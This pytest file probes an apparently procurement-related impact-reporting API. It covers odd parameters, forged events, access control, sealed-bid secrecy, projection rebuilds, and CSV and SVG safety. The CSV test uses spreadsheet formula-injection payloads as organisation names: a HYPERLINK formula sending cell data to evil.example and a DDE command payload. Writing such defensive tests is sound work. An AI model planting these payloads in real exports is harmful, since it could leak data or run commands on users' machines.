"""The impact ledger and reports probed (issue 17), on both stores: odd parameters (NUL, bidi,
huge, non-ASCII digits, empty, given twice) are named problems, never a 500; who reads a
member's report; odd events another writer could store stop no projection and count nothing
(or count sanely), and every report route still answers; a consortium of three with odd pence
adds up; a delivery confirmed in a later quarter, and a period ending at London's midnight
(BST), count in the quarter of their period's last day; the CSV carries no formula from an
organisation's name; the chart is a drawing with nothing to run.

PostgreSQL's database is shared by a worker's tests: every figure here is a difference between
before and after, or of our own ids."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator
from datetime import datetime, timedelta
from typing import Any
from xml.etree import ElementTree

import httpx
import pytest
from sqlalchemy import Engine, select

from projections.events import RecordedEvent
from projections.impact import ImpactProjection
from projections.impact_tables import impact_changes, impact_lots
from tests.api.helpers import register
from tests.api.test_bid_scenario import drafted_bid, member, published_tender, submitted
from tests.api.test_clarifications import council
from tests.api.test_contracts import Signed, signed_contract
from tests.api.test_ocds_probe import forge
from tests.api.test_outside_probe import failures
from tests.api.test_tenders import settle
from tests.conftest import AppClient
from tests.integration.recorded import recorded
from tradehall.clock import ManualClock
from tradehall.store.base import Store

Client = AppClient
Headers = dict[str, str]
SIGNED = "marketplace.contracts:Contract.Signed"
REPORTED = "marketplace.contracts:Contract.DeliveryReported"
CONFIRMED = "marketplace.contracts:Contract.DeliveryConfirmed"
REJECTED = "marketplace.contracts:Contract.DeliveryRejected"
ROUTES = (
    "/api/v1/impact/report",
    "/api/v1/impact/report.csv",
)
GROUPINGS = ("member", "buyer", "year", "quarter")
FIGURES = ("social_value", "contract_value", "jobs", "savings")


def ok(response: httpx.Response, status: int = 200) -> Any:
    assert response.status_code == status, response.text
    return response.json()


def problem(response: httpx.Response, field: str) -> None:
    """A problem document (never a 500) naming `field` among its errors."""
    assert response.status_code == 400, (response.status_code, response.text)
    assert response.headers["content-type"].startswith("application/problem+json")
    named = [e.get("field") for e in response.json().get("errors", [])]
    assert field in named, (field, response.text)


def signing(
    parties: list[tuple[uuid.UUID, int]],
    at: datetime,
    value_minor: int = 100_000,
    currency: str = "GBP",
    commitments: list[dict[str, Any]] | None = None,
    **changes: Any,
) -> dict[str, Any]:
    """A Contract.Signed payload as the domain writes it (another writer's, forged)."""
    body: dict[str, Any] = {
        "tender_id": str(uuid.uuid4()),
        "lot_id": "lot-1",
        "bid_id": str(uuid.uuid4()),
        "buyer_id": str(uuid.uuid4()),
        "value_minor": value_minor,
        "currency": currency,
        "period": {"start": at.isoformat(), "end": (at + timedelta(days=365)).isoformat()},
        "parties": [{"organisation_id": str(o), "share_percent": s} for o, s in parties],
        "commitments": commitments
        if commitments is not None
        else [{"measure": "local_jobs", "quantity": 3, "unit": "jobs"}],
        "timestamp": at,
    }
    return body | changes


def delivery(
    report_id: uuid.UUID, reporter: uuid.UUID, start: datetime, end: datetime, **changes: Any
) -> dict[str, Any]:
    body: dict[str, Any] = {
        "report_id": str(report_id),
        "reporter_id": str(reporter),
        "period": {"start": start.isoformat(), "end": end.isoformat()},
        "delivered": [{"measure": "local_jobs", "quantity": 1}],
        "note": "A hire",
        "timestamp": end,
    }
    return body | changes


async def mine(client: Client, organisation: str | uuid.UUID, headers: Headers) -> dict[str, Any]:
    totals: dict[str, Any] = ok(
        await client.get(f"/api/v1/organisations/{organisation}/impact", headers=headers)
    )["totals"]
    return totals


def money_of(group: dict[str, Any], currency: str = "GBP") -> int:
    return sum(m["value_won_minor"] for m in group["money"] if m["currency"] == currency)


def measure_of(group: dict[str, Any], measure: str = "local_jobs") -> tuple[int, int]:
    [m] = [m for m in group["measures"] if m["measure"] == measure]
    return m["committed"], m["delivered"]


async def every_route_answers(client: Client, staff: Headers) -> None:
    """Every impact route answers (a drawing, a CSV or JSON), whatever the ledger holds."""
    ok(await client.get("/api/v1/impact"))
    for by in GROUPINGS:
        for path in ROUTES:
            response = await client.get(path, params={"by": by}, headers=staff)
            assert response.status_code == 200, (path, by, response.text)
    for figure in FIGURES:
        chart = await client.get("/api/v1/impact/chart.svg", params={"figure": figure})
        assert chart.status_code == 200, (figure, chart.text)


async def contract_version(client: Client, signed: Signed) -> int:
    version: int = ok(await client.get(signed.url, headers=signed.buyer_headers))["version"]
    return version


# Parameters ------------------------------------------------------------------------------------

ODD_VALUES = (
    "",
    "\x00",
    "2026-01-01\x00",
    "\u202e2026-01-01",
    "2026-01-01\u2066",
    "x" * 5000,
    "-1",
    "-2026-01-01",
    "+2026-01-01",
    "\u0662\u0660\u0662\u0666-01-01",
    "\uff12\uff10\uff12\uff16-01-01",
    " 2026-01-01",
    "2026-1-1",
    "2026-01-01T00:00",
    "2026-W01-1",
    "0000-01-01",
    "9999-12-31",
    "2026-02-29",
    "99999999999999999999999999",
)


@pytest.mark.parametrize("name", ["since", "until"])
async def test_odd_days_are_named_problems_on_every_route(
    client: Client, staff_headers: Headers, name: str
) -> None:
    member = f"/api/v1/organisations/{uuid.uuid4()}/impact"
    for path in (*ROUTES, member):
        for value in ODD_VALUES:
            problem(await client.get(path, params={name: value}, headers=staff_headers), name)


@pytest.mark.parametrize(
    ("path", "name", "values"),
    [
        ("/api/v1/impact/report", "by", ("", "\x00", "MEMBER", "member\u202e", "x" * 5000)),
        ("/api/v1/impact/report.csv", "by", ("", "organisation", "\u0000member")),
        ("/api/v1/impact/chart.svg", "figure", ("", "\x00", "Jobs", "jobs\u2066", "x" * 5000)),
        (
            "/api/v1/impact/chart.svg",
            "year",
            (
                "",
                "\x00",
                "-2026",
                "1999",
                "2101",
                "\u0662\u0660\u0662\u0666",
                "\uff12\uff10\uff12\uff16",
                "9" * 400,
                "2026\u202e",
            ),
        ),
        ("/api/v1/impact", "position", ("marketplace:-1", "nolog:1", "marketplace:" + "9" * 40)),
    ],
)
async def test_odd_parameters_are_named_problems(
    client: Client, staff_headers: Headers, path: str, name: str, values: tuple[str, ...]
) -> None:
    for value in values:
        problem(await client.get(path, params={name: value}, headers=staff_headers), name)


async def test_a_parameter_given_twice_is_taken_once_never_a_500(
    client: Client, staff_headers: Headers
) -> None:
    for path, query in (
        ("/api/v1/impact/report", "by=member&by=buyer"),
        ("/api/v1/impact/report.csv", "by=member&by=buyer"),
        ("/api/v1/impact/report", "since=2026-01-01&since=2027-01-01"),
        ("/api/v1/impact/report", "until=2026-01-01&until=2027-01-01"),
        ("/api/v1/impact/chart.svg", "year=2026&year=2027"),
        ("/api/v1/impact/chart.svg", "figure=jobs&figure=savings"),
        ("/api/v1/impact", "position=marketplace:1&position=membership:1"),
    ):
        response = await client.get(f"{path}?{query}", headers=staff_headers)
        assert response.status_code in (200, 400), (query, response.text)


async def test_the_window_s_edges(client: Client, staff_headers: Headers) -> None:
    # The first and last days allowed; a window of one day; nothing before the first year.
    for params in (
        {"since": "2000-01-01"},
        {"until": "2100-12-31"},
        {"since": "2100-12-30", "until": "2100-12-31"},
        {"until": "2000-01-01"},
    ):
        ok(await client.get("/api/v1/impact/report", params=params, headers=staff_headers))
    problem(
        await client.get(
            "/api/v1/impact/report",
            params={"since": "2026-06-02", "until": "2026-06-01"},
            headers=staff_headers,
        ),
        "until",
    )


# Who reads what --------------------------------------------------------------------------------


async def test_a_member_s_report_is_its_own_users_and_staff_s_only(
    client: Client, staff_headers: Headers, clock: ManualClock
) -> None:
    [signed] = await signed_contract(client, staff_headers, clock)
    await settle(client)
    a = f"/api/v1/organisations/{signed.a}/impact"
    # The partner, the buyer and a stranger read not A's; staff do.
    for headers in (signed.b_headers, signed.buyer_headers, signed.c_headers):
        assert (await client.get(a, headers=headers)).status_code in (403, 404)
    assert (await mine(client, signed.a, staff_headers))["contracts"] == 1
    # The public summary names no organisation and no buyer.
    public = (await client.get("/api/v1/impact")).text
    for secret in (signed.a, signed.b, signed.buyer, signed.contract, "Alder Grounds"):
        assert secret not in public
    chart = await client.get("/api/v1/impact/chart.svg", params={"figure": "contract_value"})
    for secret in (signed.a, signed.b, signed.buyer, signed.contract, "Alder Grounds"):
        assert secret not in chart.text


# Odd events ------------------------------------------------------------------------------------


async def test_odd_contract_events_stop_no_projection_and_count_sanely(
    client: Client, staff_headers: Headers, clock: ManualClock
) -> None:
    """Events another writer could store: each either left out or counted as what it says;
    the contracts and impact projections go on, and every report route answers."""
    await settle(client)
    before = ok(await client.get("/api/v1/impact"))["totals"]
    now = clock.now()
    a, b, c = uuid.uuid4(), uuid.uuid4(), uuid.uuid4()
    huge = 2**63 - 1
    forged: list[tuple[uuid.UUID, int, str, dict[str, Any]]] = []

    def add(contract: uuid.UUID, version: int, topic: str, data: dict[str, Any]) -> None:
        forged.append((contract, version, topic, data))

    # Left out: a value or a share out of range, a period without an offset, no such measure.
    for odd in (
        signing([(a, 100)], now, value_minor=-1),
        signing([(a, 100)], now, value_minor=2**63),
        signing([(a, 101)], now),
        signing([(a, -1)], now),
        signing([(a, 100)], now, commitments=[{"measure": "Smiles!", "quantity": 1, "unit": ""}]),
        signing([(a, 100)], now, commitments=[{"measure": "jobs", "quantity": -3, "unit": ""}]),
        signing([(a, 100)], now, period={"start": "2026-01-01T00:00", "end": "2027-01-01"}),
        signing([(a, 100)], now) | {"parties": "A and B"},
        signing([(a, 100)], now, timestamp="yesterday"),
    ):
        add(uuid.uuid4(), 1, SIGNED, odd)
    # Kept, and counted as they say: shares adding to 50 (split in proportion), a party given
    # twice (the first share stands), a lot id of 1000 characters, a value of 2**63 - 1 in a
    # currency of its own, a measure the proxy table does not value at this quantity.
    halves, twice, long_lot, biggest = uuid.uuid4(), uuid.uuid4(), uuid.uuid4(), uuid.uuid4()
    add(halves, 1, SIGNED, signing([(a, 30), (b, 20)], now, value_minor=1_001))
    add(twice, 1, SIGNED, signing([(c, 70), (c, 30), (b, 30)], now, value_minor=1_000))
    add(long_lot, 1, SIGNED, signing([(a, 100)], now, value_minor=7, lot_id="L" * 1000))
    add(
        biggest,
        1,
        SIGNED,
        signing([(c, 100)], now, value_minor=huge, currency="XTS", commitments=[]),
    )
    # Deliveries: one huge and confirmed twice, then rejected (the first decision stands); one
    # whose period has no offset (left out); a confirmation of no report; a report whose
    # measure is not the domain's (left out).
    first, naive, unknown = uuid.uuid4(), uuid.uuid4(), uuid.uuid4()
    later = now + timedelta(days=20)
    add(halves, 2, REPORTED, delivery(first, a, now, later))
    add(halves, 3, CONFIRMED, {"report_id": str(first), "timestamp": later})
    add(halves, 4, CONFIRMED, {"report_id": str(first), "timestamp": later})
    add(halves, 5, REJECTED, {"report_id": str(first), "reason": "x", "timestamp": later})
    add(
        halves,
        6,
        REPORTED,
        delivery(naive, a, now, later, period={"start": "2026-04-01", "end": "2026-05-01T00:00"}),
    )
    add(halves, 7, CONFIRMED, {"report_id": str(naive), "timestamp": later})
    add(halves, 8, CONFIRMED, {"report_id": str(uuid.uuid4()), "timestamp": later})
    add(
        halves,
        9,
        REPORTED,
        delivery(unknown, b, now, later, delivered=[{"measure": "Hugs", "quantity": 5}]),
    )
    add(halves, 10, CONFIRMED, {"report_id": str(unknown), "timestamp": later})
    add(biggest, 2, REPORTED, delivery(first, c, now, later, delivered=[]))
    add(biggest, 3, CONFIRMED, {"report_id": str(first), "timestamp": later})
    for contract, version, topic, data in forged:
        await forge(client, contract, version, topic, **data)
    await settle(client)

    assert failures(client) == []
    after = ok(await client.get("/api/v1/impact"))["totals"]
    assert after["contracts"] - before["contracts"] == 4
    assert money_of(after) - money_of(before) == 1_001 + 1_000 + 7
    assert money_of(after, "XTS") - money_of(before, "XTS") == huge
    # A's part of the halves: 30 of 50 of 1,001 pence -> 600.6 -> 601; B's 400; their whole.
    a_totals = await mine(client, a, staff_headers)
    b_totals = await mine(client, b, staff_headers)
    assert money_of(a_totals) == 601 + 7
    assert money_of(b_totals) == 400 + 300  # and 30 of 100 of the 1,000 (c: 70, its first)
    assert measure_of(a_totals) == (2 + 3, 1)  # 30/50 of 3 jobs -> 2; the one confirmed
    assert measure_of(b_totals)[1] == 0  # its report of hugs counts no job
    c_totals = await mine(client, c, staff_headers)
    assert money_of(c_totals) == 700
    assert money_of(c_totals, "XTS") == huge
    await every_route_answers(client, staff_headers)


async def test_odd_tender_terms_stop_no_projection(
    client: Client, staff_headers: Headers, clock: ManualClock
) -> None:
    now = clock.now()
    tender = uuid.uuid4()
    for version, lots in enumerate(
        (
            7,
            [{"id": "lot-1", "value_minor": -1, "currency": "GBP"}],
            [{"id": "lot-1", "value_minor": 2**63, "currency": "GBP"}],
            [{"id": "L" * 1000, "value_minor": 5, "currency": "GBP"}],
            [{"id": "lot-1", "value_minor": 5, "currency": "gbp"}],
            [{"id": "lot-1", "value_minor": "5", "currency": "GBP"}],
            [{"id": "lot-1", "value_minor": 5, "currency": "GBP"}] * 2,
            [None, {"id": ""}],
        ),
        start=1,
    ):
        topic = "marketplace.tenders:Tender.Drafted" if version == 1 else "Tender.Amended"
        topic = topic if version == 1 else "marketplace.tenders:Tender.Amended"
        await forge(client, tender, version, topic, terms={"lots": lots}, timestamp=now)
    await settle(client)
    assert failures(client) == []
    await every_route_answers(client, staff_headers)


# The CSV and the chart ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?x="&A1,"Click") CIC',
        "+cmd|' /C calc'!A0 Ltd",
        "@SUM(1+1) Trust",
        "-2+3 Co-operative",
    ],
)
async def test_the_csv_carries_no_formula_from_an_organisation_s_name(
    client: Client, staff_headers: Headers, clock: ManualClock, name: str
) -> None:
    registered = await register(client, name=name)
    org = uuid.UUID(registered["id"])
    contract = uuid.uuid4()
    await forge(
        client,
        contract,
        1,
        SIGNED,
        **signing([(org, 100)], clock.now(), 4_200) | {"buyer_id": str(org)},
    )
    await settle(client)
    for by in ("member", "buyer"):
        exported = await client.get(
            "/api/v1/impact/report.csv", params={"by": by}, headers=staff_headers
        )
        assert exported.status_code == 200, exported.text
        rows = list(csv.DictReader(io.StringIO(exported.text)))
        ours = [r for r in rows if r["group"] == str(org)]
        assert ours, by
        for row in ours:
            assert row["name"].startswith("'"), row
            assert row["name"][1:] == name
            assert not any(str(v).startswith(("=", "+", "@")) for v in row.values())
        assert len(exported.text.splitlines()) == len(rows) + 1  # a record a line
        # The JSON report shows the name as it is.
        report_ = ok(
            await client.get("/api/v1/impact/report", params={"by": by}, headers=staff_headers)
        )
        assert [g["name"] for g in report_["groups"] if g["key"] == str(org)] == [name]


async def test_the_chart_is_a_drawing_with_nothing_to_run(client: Client) -> None:
    for figure in FIGURES:
        chart = await client.get(
            "/api/v1/impact/chart.svg", params={"figure": figure, "year": "2026"}
        )
        assert chart.status_code == 200, chart.text
        assert chart.headers["content-type"].startswith("image/svg+xml")
        policy = chart.headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "script-src" not in policy
        root = ElementTree.fromstring(chart.text)  # noqa: S314 (our own output)
        assert root.tag == "{http://www.w3.org/2000/svg}svg"
        for element in root.iter():
            assert not element.tag.endswith(("foreignObject", "iframe", "embed", "object"))
            for attribute, value in element.attrib.items():
                assert not attribute.lower().startswith("on"), (element.tag, attribute)
                assert "javascript:" not in value.lower()


# A rebuild -------------------------------------------------------------------------------------


@pytest.fixture
def engine(store: Store) -> Iterator[Engine]:
    store.migrate()
    made = store.sync_engine()
    yield made
    made.dispose()


def impact_log(t0: datetime) -> tuple[list[RecordedEvent], dict[uuid.UUID, str]]:
    """A tender's terms, a consortium's contract amended, reported on, decided and ended, and a
    single supplier's: with fresh ids each time (the database is shared), and their names."""
    names = ("tender", "buyer", "a", "b", "c", "one", "two", "r1", "r2", "r3", "r4")
    ids = {name: uuid.uuid4() for name in names}
    events: list[RecordedEvent] = []
    versions: dict[uuid.UUID, int] = {}

    def add(originator: str, topic: str, **data: Any) -> None:
        version = versions[ids[originator]] = versions.get(ids[originator], 0) + 1
        data.setdefault("timestamp", t0 + timedelta(days=len(events)))
        events.append(
            recorded("marketplace", len(events) + 1, ids[originator], version, topic, data)
        )

    lots = [{"id": "lot-1", "value_minor": 1_200_001, "currency": "GBP"}]
    add("tender", "marketplace.tenders:Tender.Drafted", terms={"lots": lots})
    lots = [{"id": "lot-1", "value_minor": 1_300_001, "currency": "GBP"}]
    add("tender", "marketplace.tenders:Tender.Amended", terms={"lots": lots})
    parties = [(ids["a"], 34), (ids["b"], 33), (ids["c"], 33)]
    first = signing(parties, t0, 1_000_001) | {
        "tender_id": str(ids["tender"]),
        "buyer_id": str(ids["buyer"]),
    }
    add("one", SIGNED, **first)
    second = signing([(ids["c"], 100)], t0, 77) | {
        "tender_id": str(ids["tender"]),
        "lot_id": "lot-2",
        "buyer_id": str(ids["buyer"]),
    }
    add("two", SIGNED, **second)
    end = t0 + timedelta(days=30)
    for report_name, by in (("r1", "a"), ("r2", "b"), ("r3", "c")):
        add("one", REPORTED, **delivery(ids[report_name], ids[by], t0, end))
    add("two", REPORTED, **delivery(ids["r4"], ids["c"], t0, end))
    add("one", CONFIRMED, report_id=str(ids["r1"]))
    add("one", "marketplace.contracts:Contract.DeliveryRejected", report_id=str(ids["r2"]))
    add("one", CONFIRMED, report_id=str(ids["r1"]))  # twice: the first stands
    add("one", "marketplace.contracts:Contract.Amended", value_minor=1_100_000, period=None)
    add("two", CONFIRMED, report_id=str(ids["r4"]))
    add("two", "marketplace.contracts:Contract.Terminated", reason="Stopped")
    add("one", "marketplace.contracts:Contract.Completed", reason="Done")
    return events, {v: k for k, v in ids.items()}


def impact_rows(engine: Engine, names: dict[uuid.UUID, str]) -> dict[str, Any]:
    """The impact tables' rows of these ids, each id by its name."""

    def named(value: Any) -> Any:
        return names.get(value, value) if isinstance(value, uuid.UUID) else value

    found: dict[str, Any] = {}
    with engine.connect() as connection:
        for table in ImpactProjection.tables:
            if table is impact_changes:  # one row, not of these ids
                continue
            key = table.c.tender_id if table is impact_lots else table.c.contract_id
            rows = connection.execute(select(table).where(key.in_(list(names))))
            found[table.name] = sorted(
                tuple(sorted((k, str(named(v))) for k, v in row._mapping.items())) for row in rows
            )
    return found


async def test_a_rebuild_in_any_batches_gives_the_same_rows(
    engine: Engine, clock: ManualClock
) -> None:
    projection = ImpactProjection()
    built = []
    for cut in (None, 1, 3, 6, 9):
        events, names = impact_log(clock.now())
        batches = [events] if cut is None else [events[:cut], events[cut:]]
        if cut == 1:
            batches = [[e] for e in events]
        for batch in batches:
            with engine.begin() as connection:
                projection.apply(connection, batch)
        built.append(impact_rows(engine, names))
    for rows in built[1:]:
        for table, found in rows.items():
            assert found == built[0][table], table
    rows = built[0]
    assert len(rows["impact_contracts"]) == 2
    [one] = [dict(r) for r in rows["impact_contracts"] if dict(r)["contract_id"] == "one"]
    assert (one["awarded_minor"], one["value_minor"], one["estimated_minor"]) == (
        "1000001",
        "1100000",
        "1300001",
    )
    assert one["status"] == "completed"
    statuses = sorted((dict(r)["report_id"], dict(r)["status"]) for r in rows["impact_reports"])
    assert statuses == [
        ("r1", "confirmed"),
        ("r2", "rejected"),
        ("r3", "reported"),
        ("r4", "confirmed"),
    ]


# Sealing ---------------------------------------------------------------------------------------


async def test_a_sealed_bid_reaches_no_impact_route(
    client: Client, staff_headers: Headers, clock: ManualClock
) -> None:
    """A bid submitted before the deadline (its price, its commitments, its bidder) moves no
    figure and shows nowhere in the impact routes: only contracts and tender terms are read."""
    await settle(client)
    price = 12_345_671

    async def seen() -> tuple[dict[str, Any], list[str]]:
        totals = ok(await client.get("/api/v1/impact"))["totals"]
        texts = [(await client.get("/api/v1/impact")).text]
        for by in GROUPINGS:
            for path in ROUTES:
                answer = await client.get(path, params={"by": by}, headers=staff_headers)
                texts.append(answer.text)
        for figure in FIGURES:
            chart = await client.get("/api/v1/impact/chart.svg", params={"figure": figure})
            texts.append(chart.text)
        return totals, texts

    before, _ = await seen()
    buyer, buyer_headers = await council(client, staff_headers)
    tender = await published_tender(client, buyer, buyer_headers)
    bidder, _, bidder_headers = await member(client, staff_headers, "Sealed Bidder CIC")
    bid = await drafted_bid(client, bidder_headers, tender, "lot-1", price)
    await submitted(client, bidder_headers, bid)
    await settle(client)

    after, texts = await seen()
    assert after["contracts"] == before["contracts"]
    assert after["money"] == before["money"]
    assert after["measures"] == before["measures"]
    for text in texts:
        for secret in (str(price), f"{price / 100:.2f}", bid, bidder, "Sealed Bidder"):
            assert secret not in text
    own = await mine(client, bidder, bidder_headers)
    assert (own["contracts"], own["money"]) == (0, [])
    assert all(m["committed"] == 0 for m in own["measures"])
